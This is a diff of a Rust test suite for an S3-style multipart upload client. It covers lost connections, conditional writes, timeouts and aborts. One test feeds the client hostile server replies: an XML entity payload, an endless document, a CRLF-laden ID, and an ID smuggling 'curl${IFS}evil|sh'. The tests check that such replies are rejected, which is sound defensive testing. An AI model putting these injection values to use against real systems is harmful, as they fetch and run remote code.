@@ -7,11 +7,11 @@ use std::io::Write as _;
 use std::net::TcpStream;
 use std::sync::atomic::AtomicBool;
 use std::sync::{Arc, Mutex};
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use fetch::{Access, Account, Body, Error, Location, Proof, Stored, Upload};
 use md5::{Digest as _, Md5};
-use testkit::bucket::{Shared, answer, created, error, hexadecimal};
+use testkit::bucket::{Shared, answer, completed, created, error, hexadecimal};
 use testkit::web::{Request, Server, reply};
 
 const SECRET: &str = "s3cret-of-the-account";
@@ -48,13 +48,29 @@ fn image() -> Vec<u8> {
 }
 
 fn upload(location: &Location, access: &Access, patience: u64) -> Result<Stored, Error> {
+    upload_with(location, access, patience, false, true)
+}
+
+fn upload_with(
+    location: &Location,
+    access: &Access,
+    patience: u64,
+    replaces: bool,
+    verify: bool,
+) -> Result<Stored, Error> {
     let object = location.object(access.account.as_ref().unwrap()).unwrap();
     let (patience, stop) = (Duration::from_secs(patience), Arc::new(AtomicBool::new(false)));
-    let mut upload = Upload::begin(object, 17 << 20, false, patience, stop)?;
+    let mut upload = Upload::begin(object, 17 << 20, replaces, patience, stop)?;
     match upload.write_all(&image()) {
-        Ok(()) => upload.finish(true),
+        Ok(()) => upload.finish(verify),
         Err(error) => Err(upload.cancel(Error::Write(error))),
     }
+}
+
+/// Sends the beginning of a success, as a server does while it puts an object together, and loses the connection.
+fn begin_answer(stream: &mut TcpStream, beginning: &str) {
+    let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
+    write!(stream, "{head}1\r\n \r\n{beginning}").unwrap();
 }
 
 fn read(location: &Location, access: &Access) -> Result<Vec<u8>, Error> {
@@ -184,7 +200,9 @@ fn object_without_hashes_is_read_back() {
             ("differs", Err(Error::Differs { start, end })) => {
                 assert_eq!((start, end), (8 << 20, 16 << 20));
             }
-            ("shorter", Err(Error::Size { .. })) => {}
+            ("shorter", Err(Error::Unverified(error))) => {
+                assert!(matches!(*error, Error::Size { .. }), "{error}");
+            }
             (_, other) => panic!("{other:?}"),
         }
     }
@@ -215,7 +233,12 @@ fn upload_that_cannot_be_aborted_is_named() {
     });
     let text = upload(&location, &access, 0).unwrap_err().to_string();
     assert!(text.contains("no permission"), "{text}");
-    assert!(text.contains("--bucket bucket --key \"disk.raw\" --upload-id id/1"), "{text}");
+    assert!(
+        text.contains(
+            "--bucket='bucket' --key='disk.raw' --upload-id='id/1' --endpoint-url='http://"
+        ),
+        "{text}"
+    );
 }
 
 #[test]
@@ -223,8 +246,15 @@ fn x55_hostile_documents_do_not_begin_an_upload() {
     let entity = "<!DOCTYPE a [<!ENTITY b \"id\">]><InitiateMultipartUploadResult><UploadId>&b;</UploadId>\
                   </InitiateMultipartUploadResult>";
     let endless = format!("<InitiateMultipartUploadResult>{}", "<a>b</a>".repeat(1 << 20));
-    for document in [entity.into(), endless.into(), created("a\r\nb"), b"<Other/>".to_vec(), vec![]]
-    {
+    for document in [
+        entity.into(),
+        endless.into(),
+        created("a\r\nb"),
+        created("x;curl${IFS}evil|sh"),
+        created(&"a".repeat(1025)),
+        b"<Other/>".to_vec(),
+        vec![],
+    ] {
         let (store, _, location, access) = serve(move |_, request, stream| {
             let is_first = is(request, "POST", "uploads");
             if is_first {
@@ -233,7 +263,7 @@ fn x55_hostile_documents_do_not_begin_an_upload() {
             is_first
         });
         let error = upload(&location, &access, 0).unwrap_err();
-        assert!(matches!(error, Error::Answer(_)), "{error}");
+        assert!(matches!(error, Error::Answer(_) | Error::Cut), "{error}");
         assert!(store.lock().unwrap().parts.is_empty());
     }
 }
@@ -268,4 +298,205 @@ fn object_that_was_replaced_while_it_is_read_is_refused() {
         }
     };
     assert!(matches!(error, Error::Changed), "{error}");
+}
+
+#[test]
+fn connection_lost_in_the_answer_to_the_end_is_no_failure() {
+    // With the object put together and without; cut between chunks, and as a whole body that is empty or has no end.
+    for is_done in [true, false] {
+        for beginning in ["", "0\r\n\r\n", "6\r\n<a><b>\r\n0\r\n\r\n"] {
+            let store = Shared::default();
+            let (theirs, is_first) = (store.clone(), Mutex::new(true));
+            let server = Server::start(move |_, request, stream| {
+                let is_end = is(request, "POST", "uploadId");
+                if !is_end || !std::mem::take(&mut *is_first.lock().unwrap()) {
+                    return answer(&theirs, request, stream);
+                }
+                if is_done {
+                    theirs.lock().unwrap().complete();
+                }
+                begin_answer(stream, beginning);
+            });
+            let location = "s3://bucket/disk.raw".parse().unwrap();
+            let stored = upload(&location, &access(&server), 10).unwrap();
+            assert_eq!(stored.proof, Proof::Hash("MD5"));
+            assert_eq!(store.lock().unwrap().aborted, 0);
+        }
+    }
+}
+
+#[test]
+fn own_object_is_known_where_the_condition_fails_again() {
+    // The answer is lost; then the server finds an object: ours, or another one of the same size.
+    for is_ours in [true, false] {
+        let store = Shared::default();
+        let (theirs, is_first) = (store.clone(), Mutex::new(true));
+        let server = Server::start(move |_, request, stream| {
+            if !is(request, "POST", "uploadId") {
+                return answer(&theirs, request, stream);
+            }
+            if !std::mem::take(&mut *is_first.lock().unwrap()) {
+                assert!(request.header("if-none-match").is_some());
+                let document = error("PreconditionFailed");
+                return reply(stream, "412 Precondition Failed", "", &document);
+            }
+            let mut store = theirs.lock().unwrap();
+            store.complete();
+            if !is_ours {
+                store.object = Some(vec![7; 17 << 20]);
+                store.tag = "other".to_owned();
+            }
+        });
+        let location = "s3://bucket/disk.raw".parse().unwrap();
+        let stored = upload(&location, &access(&server), 10);
+        match (is_ours, stored) {
+            (true, Ok(stored)) => assert_eq!(stored.proof, Proof::Hash("MD5")),
+            (false, Err(error)) => {
+                assert!(error.to_string().contains("by another program"), "{error}");
+            }
+            (_, other) => panic!("{other:?}"),
+        }
+        assert_eq!(store.lock().unwrap().aborted, usize::from(!is_ours));
+    }
+}
+
+#[test]
+fn old_object_of_the_same_size_is_no_success() {
+    // The upload is gone after a failure, and yesterday's object is there. Nothing was to be verified.
+    let (store, _, location, access) = serve(|number, request, stream| {
+        let is_end = is(request, "POST", "uploadId");
+        let (status, code) = match number {
+            0..5 => ("500 Internal Server Error", "InternalError"),
+            _ => ("404 Not Found", "NoSuchUpload"),
+        };
+        if is_end {
+            reply(stream, status, "", &error(code));
+        }
+        is_end
+    });
+    let old = vec![7; 17 << 20];
+    store.lock().unwrap().object = Some(old);
+    let error = upload_with(&location, &access, 10, true, false).unwrap_err();
+    assert!(error.to_string().contains("NoSuchUpload"), "{error}");
+}
+
+#[test]
+fn object_with_another_tag_than_named_is_read_back() {
+    let (_, _, location, access) = serve(|_, request, stream| {
+        let is_end = is(request, "POST", "uploadId");
+        if is_end {
+            reply(stream, "200 OK", "", &completed("new"));
+        }
+        is_end
+    });
+    let stored = |store: &Shared, old: Vec<u8>| {
+        let mut store = store.lock().unwrap();
+        (store.object, store.tag) = (Some(old), "old".to_owned());
+    };
+    let (store, _, other, theirs) = serve(|_, request, stream| {
+        let is_end = is(request, "POST", "uploadId");
+        if is_end {
+            reply(stream, "200 OK", "", &completed("new"));
+        }
+        is_end
+    });
+    stored(&store, vec![7; 17 << 20]);
+    let error = upload_with(&other, &theirs, 1, true, false).unwrap_err();
+    assert!(matches!(error, Error::Differs { start: 0, .. }), "{error}");
+    // No object at all.
+    let error = upload_with(&location, &access, 1, true, false).unwrap_err();
+    assert!(matches!(error, Error::Gone), "{error}");
+}
+
+#[test]
+fn server_without_conditional_writes_is_written_to() {
+    for status in ["501 Not Implemented", "400 Bad Request"] {
+        let code = if status.starts_with('5') { "NotImplemented" } else { "InvalidArgument" };
+        let (store, server, location, access) = serve(move |_, request, stream| {
+            let is_refused = request.header("if-none-match").is_some();
+            if is_refused {
+                reply(stream, status, "", &error(code));
+            }
+            is_refused
+        });
+        let stored = upload(&location, &access, 1).unwrap();
+        assert_eq!(stored.proof, Proof::Hash("MD5"));
+        assert!(store.lock().unwrap().object.as_deref() == Some(&image()));
+        // It was asked again whether there is one.
+        let requests = server.requests();
+        let end = requests.iter().position(|it| is(it, "POST", "uploadId")).unwrap();
+        assert_eq!(requests[end + 1].method, "HEAD");
+        let error = upload(&location, &access, 1).unwrap_err();
+        assert!(matches!(error, Error::Exists), "{error}");
+    }
+}
+
+#[test]
+fn credentials_that_only_write_suffice() {
+    // The hash in the answer proves it; without one, only if nothing was to be verified.
+    for (is_opaque, verify) in [(false, true), (true, false), (true, true)] {
+        let (store, _, location, access) = serve(move |_, request, stream| {
+            let is_denied = request.method == "HEAD";
+            match () {
+                () if is_denied => reply(stream, "403 Forbidden", "", b""),
+                () if is_opaque && is(request, "POST", "uploadId") => {
+                    reply(stream, "200 OK", "", &completed("opaque"));
+                }
+                () => return false,
+            }
+            true
+        });
+        match (is_opaque, verify, upload_with(&location, &access, 1, true, verify)) {
+            (false, _, Ok(stored)) => assert_eq!(stored.proof, Proof::Hash("MD5")),
+            (true, false, Ok(stored)) => assert_eq!(stored.proof, Proof::Nothing),
+            (true, true, Err(error)) => {
+                assert!(error.to_string().contains("object is there, but it is not"), "{error}");
+            }
+            (_, _, other) => panic!("{other:?}"),
+        }
+        assert_eq!(store.lock().unwrap().aborted, 0);
+    }
+}
+
+#[test]
+fn patience_counts_from_the_first_failure() {
+    // The first attempt lasts longer than it.
+    let is_first = Mutex::new(true);
+    let (_, _, location, access) = serve(move |_, request, _| {
+        let is_lost =
+            is(request, "POST", "uploadId") && std::mem::take(&mut *is_first.lock().unwrap());
+        if is_lost {
+            std::thread::sleep(Duration::from_millis(2500));
+        }
+        is_lost
+    });
+    assert_eq!(upload(&location, &access, 2).unwrap().proof, Proof::Hash("MD5"));
+}
+
+#[test]
+fn definite_failure_does_not_wait_for_other_parts() {
+    let (store, _, location, access) = serve(|_, request, stream| {
+        match () {
+            () if is(request, "PUT", "partNumber=2") => {
+                reply(stream, "403 Forbidden", "", &error("AccessDenied"));
+            }
+            () if request.method == "PUT" => {}
+            () => return false,
+        }
+        true
+    });
+    let begin = Instant::now();
+    let error = upload(&location, &access, 120).unwrap_err();
+    assert!(error.to_string().contains("no permission"), "{error}");
+    assert!(begin.elapsed() < Duration::from_secs(20));
+    assert_eq!(store.lock().unwrap().aborted, 1);
+}
+
+#[test]
+fn upload_that_is_dropped_is_aborted() {
+    let (store, _, location, access) = serve(|_, _, _| false);
+    let object = location.object(access.account.as_ref().unwrap()).unwrap();
+    let stop = Arc::new(AtomicBool::new(false));
+    drop(Upload::begin(object, 1, false, Duration::ZERO, stop).unwrap());
+    assert_eq!(store.lock().unwrap().aborted, 1);
 }
